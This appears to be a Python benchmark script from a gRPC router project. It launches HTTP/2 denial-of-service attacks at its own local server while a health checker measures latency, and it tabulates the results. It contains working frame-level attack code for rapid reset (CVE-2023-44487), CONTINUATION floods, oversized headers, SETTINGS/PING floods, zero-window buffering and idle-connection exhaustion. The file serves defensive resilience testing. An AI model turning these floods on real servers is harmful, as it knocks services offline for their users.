"""HTTP/2 attacks on the gRPC server while a well-behaved client health-checks it: one table.

    python -m loadtests.bench.h2_attacks                              # this checkout's server
    python -m loadtests.bench.h2_attacks --router-path /tmp/h2base    # another checkout's (a worktree)
    python -m loadtests.bench.h2_attacks --only rapid-reset ping-flood --idle-seconds 5

Processes, all on 127.0.0.1, a fresh set for every attack:

* **server**: ``router.transport.h2.server.H2GrpcServer`` with its default limits (uvloop when
  installed, as ``pd-router serve`` runs), serving gRPC health and ``/bench.Echo/Bidi`` (every
  message sent back, as ext_proc sends a body back in ``FULL_DUPLEX_STREAMED``). With
  ``--router-path`` the child imports ``router`` from that directory first: the same attacks
  against the code before a change.
* **checker**: one HTTP/2 connection sending a gRPC health ``Check`` every ``--interval-ms``
  (20 ms), one at a time; its latencies.
* **attacker**: this process, raw frames (built here: ``loadtests`` may not import ``tests/``).

Columns: what the attack sent (and how much of it the server let through before it closed), what
happened to the attacking connection (GOAWAY code and debug text, closed or still open), the
checker's p99 and worst latency over the checks that overlapped the attack (its start to the
attacking connection's end), and the server's RSS growth (peak during the attack, read from
``VmHWM`` after resetting it through ``/proc/<pid>/clear_refs``, minus RSS before).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import logging
import multiprocessing as mp
import os
import statistics
import struct
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from multiprocessing.connection import Connection
from typing import Any

import hpack

from loadtests.bench.proxy import _run
from simulator.workloads.client import percentile

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
SETTINGS_INITIAL_WINDOW_SIZE = 0x4
CANCEL = 0x8
ERRORS = {
    0x0: "NO_ERROR",
    0x1: "PROTOCOL_ERROR",
    0x2: "INTERNAL_ERROR",
    0x3: "FLOW_CONTROL_ERROR",
    0x6: "FRAME_SIZE_ERROR",
    0x7: "REFUSED_STREAM",
    0x9: "COMPRESSION_ERROR",
    0xB: "ENHANCE_YOUR_CALM",
}
HEALTH_CHECK = "/grpc.health.v1.Health/Check"
ECHO = "/bench.Echo/Bidi"
# grpc.health.v1.HealthCheckRequest{service: "liveness"}: field 1, length 8.
CHECK_REQUEST = b"\x0a\x08liveness"
MAX_WINDOW = 2**31 - 1
_HEAD = struct.Struct(">IBI")
_U32 = struct.Struct(">I")


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return _HEAD.pack(len(payload) << 8 | kind, flags, stream_id) + payload


def settings(values: dict[int, int] | None = None) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in (values or {}).items()))


def grpc_message(body: bytes) -> bytes:
    return struct.pack(">BI", 0, len(body)) + body


def request_headers(path: str, **extra: str) -> list[tuple[str, str]]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "bench"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *extra.items(),
    ]


@dataclass
class Frame:
    kind: int
    flags: int
    stream_id: int
    payload: bytes


class Raw:
    """One cleartext HTTP/2 connection driven frame by frame (the attacker's and the checker's)."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.encoder = hpack.Encoder()
        self.conn_window = 65_535  # what the server lets us send, from its frames read so far
        self.stream_windows: dict[int, int] = {}
        self.initial_window = 65_535

    @classmethod
    async def connect(
        cls, port: int, client_settings: dict[int, int] | None = None, *, handshake: bool = False
    ) -> Raw:
        """Connect and send the preface; with ``handshake``, also read the server's SETTINGS (and
        what comes with them: its connection window) and ACK them."""
        reader, writer = await asyncio.open_connection("127.0.0.1", port, limit=1 << 22)
        raw = cls(reader, writer)
        await raw.send(PREFACE + settings(client_settings))
        if not handshake:
            return raw
        for _ in range(100):  # its SETTINGS come first or nearly: a handful of frames at most
            got = await raw.read_frame(5.0)
            if got is None:
                raise ConnectionError("closed during the handshake")
            if got.kind == SETTINGS and not got.flags & ACK:
                await raw.send(frame(SETTINGS, ACK, 0))
                with contextlib.suppress(TimeoutError):  # the window update sent with them
                    for _ in range(100):
                        if await raw.read_frame(0.05) is None:
                            break
                return raw
        raise ConnectionError("no SETTINGS in the server's first 100 frames")

    async def send(self, data: bytes) -> bool:
        """Write and drain; False once the server has closed on us."""
        try:
            self.writer.write(data)
            await self.writer.drain()
        except (ConnectionError, RuntimeError):
            return False
        return True

    async def flood(self, data: bytes, chunk: int = 64 * 1024) -> int:
        """Write ``data`` in pieces until done or closed on; returns the bytes the socket took."""
        written = 0
        for start in range(0, len(data), chunk):
            piece = data[start : start + chunk]
            if not await self.send(piece):
                break
            written += len(piece)
        return written

    async def read_frame(self, timeout_s: float) -> Frame | None:
        """The next frame; None at EOF or reset. Raises TimeoutError after ``timeout_s`` of quiet."""
        try:
            head = await asyncio.wait_for(self.reader.readexactly(9), timeout_s)
            length_kind, flags, stream_id = _HEAD.unpack(head)
            payload = await asyncio.wait_for(self.reader.readexactly(length_kind >> 8), timeout_s)
        except (asyncio.IncompleteReadError, ConnectionError):
            return None
        got = Frame(length_kind & 0xFF, flags, stream_id & 0x7FFFFFFF, payload)
        if got.kind == WINDOW_UPDATE:
            increment = _U32.unpack(payload)[0] & 0x7FFFFFFF
            if got.stream_id:
                self.stream_windows[got.stream_id] = self.window_of(got.stream_id) + increment
            else:
                self.conn_window += increment
        elif got.kind == SETTINGS and not flags & ACK:
            for offset in range(0, len(payload), 6):
                key, value = struct.unpack_from(">HI", payload, offset)
                if key == SETTINGS_INITIAL_WINDOW_SIZE:  # applies to open streams too
                    delta, self.initial_window = value - self.initial_window, value
                    for stream_id in self.stream_windows:
                        self.stream_windows[stream_id] += delta
        return got

    def window_of(self, stream_id: int) -> int:
        return self.stream_windows.get(stream_id, self.initial_window)

    def close(self) -> None:
        self.writer.close()


@dataclass
class Outcome:
    """What the server did with the attacking connection."""

    goaway: tuple[str, str] | None = None  # (code, debug text)
    closed: bool = False
    after_s: float = 0.0  # from the attack's start to the close (or to giving up reading)
    frames: Counter[str] = field(default_factory=Counter)

    def describe(self) -> str:
        if self.goaway is not None:
            code, text = self.goaway
            said = f"GOAWAY {code}" + (f' "{text}"' if text else "")
        else:
            said = "no GOAWAY"
        state = f"closed at {self.after_s * 1000:.0f} ms" if self.closed else f"open at {self.after_s:.1f} s"
        return f"{said}, {state}"


async def outcome_of(raw: Raw, started: float, quiet_s: float = 1.0, limit_s: float = 60.0) -> Outcome:
    """Read what the server sends until it closes, until ``quiet_s`` passes with nothing, or for at
    most ``limit_s`` from ``started`` (a server that never stops sending: still open)."""
    result = Outcome()
    while time.monotonic() - started < limit_s:
        try:
            got = await raw.read_frame(quiet_s)
        except TimeoutError:
            break
        if got is None:
            result.closed = True
            result.after_s = time.monotonic() - started
            return result
        result.frames[_kind_name(got)] += 1
        if got.kind == GOAWAY:
            code = _U32.unpack_from(got.payload, 4)[0]
            result.goaway = (ERRORS.get(code, hex(code)), got.payload[8:].decode(errors="replace"))
    result.after_s = time.monotonic() - started
    return result


def _kind_name(got: Frame) -> str:
    names = {DATA: "DATA", HEADERS: "HEADERS", RST_STREAM: "RST", SETTINGS: "SETTINGS", PING: "PING"}
    name = names.get(got.kind, f"type{got.kind}")
    return f"{name} ACK" if got.kind in (SETTINGS, PING) and got.flags & ACK else name


# -- the server and the checker (children) ---------------------------------------------------------


def server_main(conn: Connection, router_path: str) -> None:
    """The gRPC server with default limits; answers "stats" and "stop" on its pipe."""
    if router_path:
        sys.path.insert(0, router_path)
    logging.basicConfig(level=logging.ERROR)  # the server's per-connection warnings: not the table
    import router
    from router.adapters.health import HealthState

    try:
        from router.transport.h2.server import H2GrpcServer
    except ImportError:  # --router-path: a checkout from before router/transport/h2/
        from router.transport.h2grpc import H2GrpcServer  # type: ignore[import-not-found,no-redef]

    started = 0

    class Echo:
        def __init__(self, call: Any) -> None:
            self.call = call

        def on_message(self, message: bytes) -> None:
            self.call.send(message)

        def on_end(self) -> None:
            self.call.finish()

        def on_cancel(self) -> None:
            pass

    def echo(call: Any) -> Echo:
        nonlocal started
        started += 1
        return Echo(call)

    async def main() -> None:
        health = HealthState()
        health.set_ready(True)
        server = H2GrpcServer({**health.methods(), ECHO: echo})
        port = await server.start("127.0.0.1", 0)
        conn.send((port, os.path.dirname(os.path.dirname(router.__file__))))
        loop = asyncio.get_running_loop()
        while True:
            command = await loop.run_in_executor(None, conn.recv)
            if command == "stats":
                conn.send({"calls": started, "connections": len(server.connections)})
            else:
                break
        await server.stop(0)

    _run(main())


def checker_main(conn: Connection, port: int, interval_s: float) -> None:
    """Health checks on one connection, one at a time, every ``interval_s``; sends the samples."""

    async def main() -> None:
        raw = await Raw.connect(port, {SETTINGS_INITIAL_WINDOW_SIZE: MAX_WINDOW})
        await raw.send(frame(WINDOW_UPDATE, 0, 0, _U32.pack(MAX_WINDOW - 65_535)))
        loop = asyncio.get_running_loop()
        stop = loop.run_in_executor(None, conn.recv)
        samples: list[tuple[float, float, bool]] = []  # (start, latency, answered)
        stream_id = 1
        conn.send("ready")
        while not stop.done():
            start = time.monotonic()
            block = raw.encoder.encode(request_headers(HEALTH_CHECK))
            body = frame(DATA, END_STREAM, stream_id, grpc_message(CHECK_REQUEST))
            answered = await raw.send(frame(HEADERS, END_HEADERS, stream_id, block) + body)
            while answered and not stop.done():
                try:
                    got = await raw.read_frame(0.05)
                except TimeoutError:
                    continue
                if got is None:
                    answered = False
                elif got.stream_id == stream_id and got.kind == HEADERS and got.flags & END_STREAM:
                    break
            samples.append((start, time.monotonic() - start, answered and not stop.done()))
            stream_id += 2
            await asyncio.sleep(max(0.0, start + interval_s - time.monotonic()))
        conn.send(samples)
        raw.close()

    _run(main())


class Child:
    def __init__(self, target: Callable[..., None], *args: Any) -> None:
        context = mp.get_context("spawn")  # a clean interpreter: no inherited loop or sockets
        self.pipe, theirs = context.Pipe()
        self.proc = context.Process(target=target, args=(theirs, *args), daemon=True)
        self.proc.start()
        if not self.pipe.poll(30.0):
            self.proc.kill()
            raise RuntimeError(f"{target.__name__} did not start within 30 s")
        self.hello = self.pipe.recv()

    def ask(self, command: str, timeout_s: float = 30.0) -> Any:
        self.pipe.send(command)
        if not self.pipe.poll(timeout_s):
            raise RuntimeError(f"no answer to {command!r} within {timeout_s} s")
        return self.pipe.recv()

    def stop(self) -> None:
        with contextlib.suppress(OSError, BrokenPipeError):
            self.pipe.send("stop")
        self.proc.join(10.0)
        if self.proc.is_alive():
            self.proc.kill()
            self.proc.join(5.0)


# -- memory --------------------------------------------------------------------------------------


def _status_kb(pid: int, key: str) -> int:
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(key + ":"):
                return int(line.split()[1])
    raise KeyError(key)


def reset_peak(pid: int) -> bool:
    """Reset the process's peak RSS (VmHWM) to its current RSS; False where not permitted."""
    try:
        with open(f"/proc/{pid}/clear_refs", "w") as f:
            f.write("5")
    except OSError:
        return False
    return True


class RssWatch:
    """Peak RSS of a process during a block: VmHWM after a reset, else sampled every 5 ms."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.before = _status_kb(pid, "VmRSS")
        self.exact = reset_peak(pid)
        self.sampled = self.before
        self.task: asyncio.Task[None] | None = None

    async def _sample(self) -> None:
        while True:
            self.sampled = max(self.sampled, _status_kb(self.pid, "VmRSS"))
            await asyncio.sleep(0.005)

    def start(self) -> None:
        if not self.exact:
            self.task = asyncio.get_running_loop().create_task(self._sample())

    async def growth_mb(self) -> float:
        if self.task is not None:
            self.task.cancel()
            with contextlib.suppress(asyncio.CancelledError):
                await self.task
        peak = _status_kb(self.pid, "VmHWM") if self.exact else self.sampled
        return (peak - self.before) / 1024


# -- the attacks ---------------------------------------------------------------------------------


AttackFn = Callable[[int, argparse.Namespace], Awaitable[tuple[str, str, float]]]


async def flood(raw: Raw, wire: bytes) -> tuple[str, Outcome, float]:
    """Send ``wire`` (as much as the server takes), read what it then does with the connection,
    close it: (how much was written, the outcome, when the sending started)."""
    started = time.monotonic()
    written = await raw.flood(wire)
    outcome = await outcome_of(raw, started)
    raw.close()
    return _share(written, len(wire)), outcome, started


async def rapid_reset(port: int, args: argparse.Namespace) -> tuple[str, str, float]:
    """CVE-2023-44487: open a stream and reset it at once, 20,000 times, in one stream of bytes."""
    raw = await Raw.connect(port)
    count = 20_000
    headers = request_headers(ECHO)
    wire = b"".join(
        frame(HEADERS, END_HEADERS, sid, raw.encoder.encode(headers))
        + frame(RST_STREAM, 0, sid, _U32.pack(CANCEL))
        for sid in range(1, 2 * count, 2)
    )
    share, outcome, started = await flood(raw, wire)
    return f"{count:,} × (HEADERS + RST_STREAM), {share}", outcome.describe(), started


async def continuation_flood(port: int, args: argparse.Namespace) -> tuple[str, str, float]:
    """CVE-2024-27316: a header block that never ends, in empty CONTINUATION frames."""
    raw = await Raw.connect(port)
    count = 200_000
    wire = frame(HEADERS, 0, 1, raw.encoder.encode(request_headers(ECHO))) + frame(CONTINUATION, 0, 1) * count
    share, outcome, started = await flood(raw, wire)
    return (
        f"HEADERS + {count:,} empty CONTINUATION, {share}",
        outcome.describe(),
        started,
    )


async def huge_headers(port: int, args: argparse.Namespace) -> tuple[str, str, float]:
    """One 800 KB HEADERS frame with END_HEADERS (a valid block: HPACK would decode it all)."""
    raw = await Raw.connect(port)
    block = raw.encoder.encode(request_headers(ECHO, **{"x-big": "a" * 1_280_000}))  # ~800 KB Huffman-coded
    wire = frame(HEADERS, END_HEADERS, 1, block)
    share, outcome, started = await flood(raw, wire)
    return (
        f"one {len(block) / 1000:.0f} KB HEADERS frame, {share}",
        outcome.describe(),
        started,
    )


async def settings_flood(port: int, args: argparse.Namespace) -> tuple[str, str, float]:
    """100,000 SETTINGS frames, their ACKs never read while sending."""
    raw = await Raw.connect(port)
    count = 100_000
    wire = settings() * count
    share, outcome, started = await flood(raw, wire)
    acks = outcome.frames["SETTINGS ACK"]
    return (
        f"{count:,} SETTINGS, {share}",
        f"{outcome.describe()}; {acks:,} ACKs",
        started,
    )


async def ping_flood(port: int, args: argparse.Namespace) -> tuple[str, str, float]:
    """100,000 PINGs, their ACKs never read while sending."""
    raw = await Raw.connect(port)
    count = 100_000
    wire = frame(PING, 0, 0, b"pingpong") * count
    share, outcome, started = await flood(raw, wire)
    acks = outcome.frames["PING ACK"]
    return f"{count:,} PINGs, {share}", f"{outcome.describe()}; {acks:,} ACKs", started


async def zero_window(port: int, args: argparse.Namespace) -> tuple[str, str, float]:
    """200 streams × 200 KB bodies to the echo method from a client that grants no window; then
    every window opens at once. The client sends only what the server's windows allow."""
    raw = await Raw.connect(port, {SETTINGS_INITIAL_WINDOW_SIZE: 0}, handshake=True)
    streams, size = 200, 200_000
    message = grpc_message(b"z" * (size - 5))
    started = time.monotonic()
    deadline = started + 120.0  # a server that keeps sending frames but never grants a window
    accepted = 0
    for index in range(streams):
        stream_id = 2 * index + 1
        await raw.send(frame(HEADERS, END_HEADERS, stream_id, raw.encoder.encode(request_headers(ECHO))))
        position = 0
        while position < len(message) and time.monotonic() < deadline:
            allowed = min(raw.conn_window, raw.window_of(stream_id), 16_384, len(message) - position)
            if allowed <= 0:
                try:  # wait for the server to grant more
                    got = await raw.read_frame(2.0)
                except TimeoutError:
                    break
                if got is None:
                    break
                continue
            last = position + allowed == len(message)
            chunk = message[position : position + allowed]
            await raw.send(frame(DATA, END_STREAM if last else 0, stream_id, chunk))
            raw.conn_window -= allowed
            raw.stream_windows[stream_id] = raw.window_of(stream_id) - allowed
            position += allowed
        if position < len(message):
            break  # no more window: the server holds what it will hold for us
        accepted += 1
    await asyncio.sleep(0.5)  # what the server buffers now is the attack's worst
    await raw.send(settings({SETTINGS_INITIAL_WINDOW_SIZE: MAX_WINDOW}))
    await raw.send(frame(WINDOW_UPDATE, 0, 0, _U32.pack(MAX_WINDOW - 65_535)))
    echoed, data = 0, 0
    while echoed < accepted and time.monotonic() < deadline + 60.0:
        try:
            got = await raw.read_frame(5.0)
        except TimeoutError:
            break
        if got is None:
            break
        if got.kind == DATA:
            data += len(got.payload)
        elif got.kind == HEADERS and got.flags & END_STREAM:
            echoed += 1
    raw.close()
    sent = f"{streams} streams × {size // 1000} KB at zero window; {accepted} bodies accepted"
    outcome = f"{accepted} echoed ({data / 1e6:.1f} MB) once windows opened, connection open"
    if accepted < streams:
        outcome = f"receive window withheld after {accepted} bodies; " + outcome
    return sent, outcome, started


async def idle_connections(port: int, args: argparse.Namespace) -> tuple[str, str, float]:
    """2,000 connections that send the preface and SETTINGS, then nothing, for ``--idle-seconds``."""
    count = args.idle_connections
    started = time.monotonic()
    connect_times: list[float] = []
    goaways: Counter[str] = Counter()
    closed = 0

    async def one() -> Raw | None:
        begin = time.monotonic()
        try:
            raw = await asyncio.wait_for(Raw.connect(port), 10.0)
        except (OSError, TimeoutError):
            return None
        connect_times.append(time.monotonic() - begin)
        return raw

    async def watch(raw: Raw) -> None:
        nonlocal closed
        while True:
            try:
                got = await raw.read_frame(args.idle_seconds + 5)
            except TimeoutError:
                return
            if got is None:
                closed += 1
                return
            if got.kind == GOAWAY:
                code = ERRORS.get(_U32.unpack_from(got.payload, 4)[0], "?")
                goaways[f"{code} {got.payload[8:].decode(errors='replace')}".strip()] += 1

    raws = [r for r in await asyncio.gather(*(one() for _ in range(count))) if r is not None]
    watchers = [asyncio.get_running_loop().create_task(watch(r)) for r in raws]
    await asyncio.sleep(args.idle_seconds)
    for task in watchers:
        task.cancel()
    await asyncio.gather(*watchers, return_exceptions=True)
    for raw in raws:
        raw.close()
    slow = sum(t > 0.9 for t in connect_times)  # a SYN retransmit: the accept queue was full
    sent = f"{count:,} connections, preface + SETTINGS, then idle {args.idle_seconds:g} s"
    said = ", ".join(f"{n} × GOAWAY {what}" for what, n in goaways.most_common()) or "no GOAWAY"
    outcome = f"{len(raws)} connected, {slow} after a SYN retry; {closed} closed by the server ({said})"
    return sent, outcome, started


def _share(written: int, total: int) -> str:
    return "all written" if written >= total else f"{written / total:.0%} written before the close"


ATTACKS: dict[str, tuple[str, AttackFn]] = {
    "rapid-reset": ("rapid reset (CVE-2023-44487)", rapid_reset),
    "continuation-flood": ("CONTINUATION flood (CVE-2024-27316)", continuation_flood),
    "huge-headers": ("one 800 KB HEADERS frame", huge_headers),
    "settings-flood": ("SETTINGS flood, ACKs unread", settings_flood),
    "ping-flood": ("PING flood, ACKs unread", ping_flood),
    "zero-window": ("zero window, 200 × 200 KB bodies", zero_window),
    "idle-connections": ("idle connections", idle_connections),
}


# -- the run -------------------------------------------------------------------------------------


@dataclass
class Row:
    attack: str
    sent: str
    outcome: str
    checks: int
    p99_ms: float
    max_ms: float
    unanswered: int
    rss_mb: float


async def run_one(name: str, args: argparse.Namespace) -> tuple[Row, str]:
    label, attack = ATTACKS[name]
    server = Child(server_main, args.router_path)
    port, source = server.hello
    checker = Child(checker_main, port, args.interval_ms / 1000)
    try:
        await asyncio.sleep(0.5)  # the checker's baseline
        memory = RssWatch(server.proc.pid)
        memory.start()
        sent, outcome, started = await attack(port, args)
        ended = time.monotonic()
        await asyncio.sleep(0.3)
        growth = await memory.growth_mb()
        samples: list[tuple[float, float, bool]] = checker.ask("stop")
        checker.proc.join(10.0)
        until = max(ended, started + args.window_s)  # a short attack still leaves work behind it
        during = [(lat, ok) for start, lat, ok in samples if start <= until and start + lat >= started]
        latencies = sorted(lat * 1000 for lat, _ in during)
        unanswered = sum(not ok for _, ok in during)
        p99 = percentile(latencies, 0.99)
        worst = latencies[-1] if latencies else float("nan")
        return Row(label, sent, outcome, len(latencies), p99, worst, unanswered, growth), source
    finally:
        if checker.proc.is_alive():
            checker.stop()
        server.stop()


def table(rows: list[Row]) -> list[str]:
    out = [
        "| attack | what was sent | attacking connection | checks | p99 ms | max ms | RSS growth |",
        "|---|---|---|---:|---:|---:|---:|",
    ]
    for r in rows:
        checks = f"{r.checks}" + (f" ({r.unanswered} unanswered)" if r.unanswered else "")
        out.append(
            f"| {r.attack} | {r.sent} | {r.outcome} | {checks} | {r.p99_ms:.1f} | {r.max_ms:.1f} "
            f"| {r.rss_mb:+.1f} MB |"
        )
    return out


async def bench(args: argparse.Namespace) -> list[str]:
    rows: list[Row] = []
    source = ""
    for name in args.only:
        row, source = await run_one(name, args)
        rows.append(row)
        sys.stderr.write(f"{name}: done\n")
    header = [
        f"gRPC server from {source}; a health check every {args.interval_ms:g} ms on its own connection",
        f"(checks: those overlapping the attack, from its first byte to the attacking connection's end"
        f" or {args.window_s:g} s later, whichever is later)",
        "",
    ]
    median = statistics.median([r.p99_ms for r in rows]) if rows else float("nan")
    return [*header, *table(rows), "", f"median p99 over the attacks: {median:.1f} ms"]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m loadtests.bench.h2_attacks", description=__doc__.split("\n")[0]
    )
    parser.add_argument(
        "--only", nargs="+", choices=list(ATTACKS), default=list(ATTACKS), help="attacks to run"
    )
    parser.add_argument("--router-path", default="", help="import router from this directory (a worktree)")
    parser.add_argument("--interval-ms", type=float, default=20.0, help="the checker's health-check period")
    parser.add_argument("--idle-connections", type=int, default=2000, help="connections of the idle attack")
    parser.add_argument("--idle-seconds", type=float, default=15.0, help="how long they stay idle")
    parser.add_argument(
        "--window-s", type=float, default=1.0, help="latency window: the attack, and at least this long"
    )
    args = parser.parse_args(argv)
    lines = asyncio.run(bench(args))
    sys.stdout.write("\n".join(lines) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
